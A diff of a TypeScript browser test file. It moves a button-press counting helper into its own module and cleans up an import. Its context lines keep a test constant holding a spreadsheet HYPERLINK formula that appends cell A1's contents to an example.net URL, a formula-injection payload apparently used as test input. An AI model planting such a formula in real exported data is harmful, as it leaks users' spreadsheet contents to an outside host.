@@ -1,10 +1,11 @@
 import { readFile } from 'node:fs/promises'
-import type { Browser, Page } from 'playwright-core'
+import type { Browser } from 'playwright-core'
 import { afterAll, beforeAll, expect, it } from 'vitest'
 import type { TestAccount } from '../gateway.ts'
 import { useWorld } from '../world.ts'
 import { barriers } from './axe.ts'
 import { openBrowser, visitAs } from './browser.ts'
+import { presses } from './presses.ts'
 import { act } from './rows.ts'
 
 const formula = '=HYPERLINK("https://example.net/?"&A1,"look")'
@@ -45,20 +46,6 @@ const groupsOf = async (account: TestAccount): Promise<Record<string, string[]>>
       groups.map(({ key }) => key),
     ]),
   )
-}
-
-/** Counts the presses of a person. */
-function presses(page: Page) {
-  let count = 0
-  return {
-    async press(name: string | RegExp, role: Parameters<Page['getByRole']>[0] = 'button', modifiers: 'Shift'[] = []) {
-      count++
-      await page.getByRole(role, { name, exact: true }).first().click({ modifiers })
-    },
-    get count() {
-      return count
-    },
-  }
 }
 
 it('moves a person to another group by three presses, and back by Undo; a move to Admin is asked about first', async () => {
